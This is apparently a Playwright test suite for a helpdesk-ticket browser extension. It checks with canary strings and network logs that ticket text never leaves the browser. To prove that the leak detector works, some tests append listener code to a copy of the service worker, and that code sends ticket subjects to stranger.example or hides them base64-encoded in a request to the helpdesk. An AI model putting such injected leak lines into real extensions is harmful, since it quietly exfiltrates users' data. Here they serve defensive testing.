import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Request } from '@playwright/test';
import { startLocalCloud } from '../cloud/entries/local-cloud';
import { type Demo, startDemo } from '../demo/server';
import type { DemoTicket } from '../demo/ticket';
import { demoTickets } from '../demo/tickets';
import { choose, openAnswers } from './support/answers';
import { askAsExtension } from './support/asking';
import { findCanaries, plantCanaries } from './support/canaries';
import { Card } from './support/card';
import { withCopyOfExtension } from './support/damaged-extension';
import { builtExtension } from './support/launch';
import { isOfPageOrExtension, netLogSwitches, readNetLog } from './support/net-log';
import { startRecordingProxy } from './support/recording-proxy';
import { BrowserSession, expect, test } from './support/test';

/** What leaves the browser, seen from outside of it. */

const ticketsOfADay = 60;

interface Scene {
  demo: Demo;
  session: BrowserSession;
}

test('a day with the settings as shipped: nothing is asked of anybody but the helpdesk', async () => {
  // Each ticket takes some seconds where other browsers work beside this one.
  test.setTimeout(600_000);
  const tickets = plantCanaries(demoTickets, ticketsOfADay);
  const leaks = await leaksWhile(builtExtension, tickets, async ({ demo, session }) => {
    await workThrough(session, demo, tickets);
  });
  expect(leaks).toEqual([]);
});

for (const [how, leak, found] of [
  [
    'plainly, to a stranger',
    "fetch('http://stranger.example/', { method: 'POST', body: subject })",
    /stranger/,
  ],
  [
    'encrypted, to a stranger',
    "fetch('https://stranger.example/', { method: 'POST', body: subject })",
    /stranger/,
  ],
  ['disguised, to the helpdesk', "fetch(sender.origin + '/' + btoa(encodeURIComponent(subject)))", /canary/],
] as const) {
  test(`a build that lets ticket text out ${how} is found out`, async () => {
    const tickets = plantCanaries(demoTickets, 3);
    await withCopyOfExtension(async (extension) => {
      await addLeak(extension, leak);
      const leaks = await leaksWhile(extension, tickets, async ({ demo, session }) => {
        const attempt = session.context.waitForEvent('requestfinished', isFromWorker);
        const failure = session.context.waitForEvent('requestfailed', isFromWorker);
        await workThrough(session, demo, tickets);
        await Promise.race([attempt, failure]);
      });
      expect(leaks.join('\n')).toMatch(found);
    });
  });
}

for (const level of ['labels', 'features', 'redacted'] as const) {
  test(`with labels sent at the level "${level}", nothing goes anywhere but to the cloud that the policy names`, async () => {
    const tickets = plantCanaries(demoTickets, 12);
    const folder = await mkdtemp(join(tmpdir(), 'triage-lens-cloud-'));
    process.env.TRIAGE_LENS_LABEL_LEVEL = level;
    const cloud = await startLocalCloud(folder, 0);
    try {
      const { url, made, publicKey } = cloud;
      const keys = { token: made?.agent, publicKeys: [publicKey], featureKey: btoa('0123456789abcdef') };
      const policy = { cloud: { url, syncLevel: level, ...keys } };
      const sent: string[] = [];
      const leaks = await leaksWhile(
        builtExtension,
        tickets,
        async ({ demo, session }) => {
          await workThrough(session, demo, tickets);
          sent.push(...(await sendLabels(session)));
        },
        { policy, allowed: url },
      );
      expect(sent.length).toBeGreaterThan(0);
      // Redacted text is what this level sends, and redaction does not know our words; but it takes the requester's name.
      const isAllowed = (leak: string) => level === 'redacted' && leak.startsWith(`POST ${url}/v1/labels`);
      expect(leaks.filter((leak) => !isAllowed(leak))).toEqual([]);
      if (level !== 'redacted') return;
      const names = tickets.flatMap(({ requester }) => findCanaries(requester.name));
      expect(leaks.filter((leak) => names.some((name) => leak.includes(name)))).toEqual([]);
    } finally {
      delete process.env.TRIAGE_LENS_LABEL_LEVEL;
      await cloud.close();
      await rm(folder, { recursive: true, force: true });
    }
  });
}

/**
 * What left the browser and should not have, a line each: a request of a page or of the extension to anybody but the
 * helpdesk, and any request that carries ticket text.
 */
async function leaksWhile(
  extension: string,
  tickets: readonly DemoTicket[],
  act: (scene: Scene) => Promise<void>,
  { policy, allowed }: { policy?: object; allowed?: string } = {},
): Promise<string[]> {
  const demo = await startDemo({ tickets });
  const proxy = await startRecordingProxy();
  const folder = await mkdtemp(join(tmpdir(), 'triage-lens-net-log-'));
  const log = join(folder, 'log.json');
  try {
    const options = {
      extension,
      switches: [...proxy.switches, ...netLogSwitches(log)],
      ...(policy && { policy }),
    };
    await BrowserSession.run(options, (session) => act({ demo, session }));
    const logged = (await readNetLog(log)).filter(({ url }) => /^(https?|wss?):/.test(url));
    // Else nothing was looked at.
    expect(logged.filter(({ url }) => url.startsWith(demo.url)).length).toBeGreaterThan(tickets.length);
    const isExpected = (url: string) =>
      url.startsWith(demo.url) || (allowed !== undefined && url.startsWith(allowed));
    const strange = logged.filter((request) => isOfPageOrExtension(request) && !isExpected(request.url));
    const sent = [...proxy.requests, ...logged.map(({ method, url }) => ({ content: `${method} ${url}` }))];
    return [
      ...strange.map(({ method, url, initiator }) => `${initiator}: ${method} ${url}`),
      ...sent.flatMap(({ content }) => {
        const [address] = content.split('\n');
        return findCanaries(content).map((word) => `${address} with ${word}`);
      }),
    ];
  } finally {
    await rm(folder, { recursive: true, force: true });
    await proxy.close();
    await demo.close();
  }
}

/** Sends what waits; gives what "What left this machine" says of it. */
async function sendLabels(session: BrowserSession): Promise<string[]> {
  const own = await askAsExtension(session);
  await expect
    .poll(() => own.ask('sync.send', {}), { message: 'what waits to be sent', timeout: 60_000 })
    .toMatchObject({ waiting: 0 });
  const traffic = await own.ask('traffic.list', { most: 100 });
  await own.close();
  return traffic.filter(({ kind }) => kind === 'labels').map(({ outcome }) => outcome);
}

/** Opens every ticket and its answers; corrects the first of ten, accepts the second. */
async function workThrough(
  session: BrowserSession,
  demo: Demo,
  tickets: readonly DemoTicket[],
): Promise<void> {
  const tab = await session.newPage();
  const card = await Card.on(tab);
  for (const [i, { id, subject }] of tickets.entries()) {
    await tab.goto(`${demo.url}/tickets/${id}`);
    await tab.getByRole('heading', { name: subject }).waitFor();
    await openAnswers(card);
    if (i % 10 === 0) await choose(card, 'Severity', 'P1');
    if (i % 10 === 1) await card.click('button', /^Accept P\d/);
  }
}

/** As if somebody had slipped a line into the service worker. */
async function addLeak(extension: string, leak: string): Promise<void> {
  const file = join(extension, 'service-worker.js');
  const line = `chrome.runtime.onMessage.addListener(({ kind, request }, sender) => {
    if (kind !== 'ticket.predict') return;
    const { subject } = request;
    ${leak};
  });\n`;
  await writeFile(file, (await readFile(file, 'utf8')) + line);
}

function isFromWorker(request: Request): boolean {
  return request.serviceWorker() !== null;
}
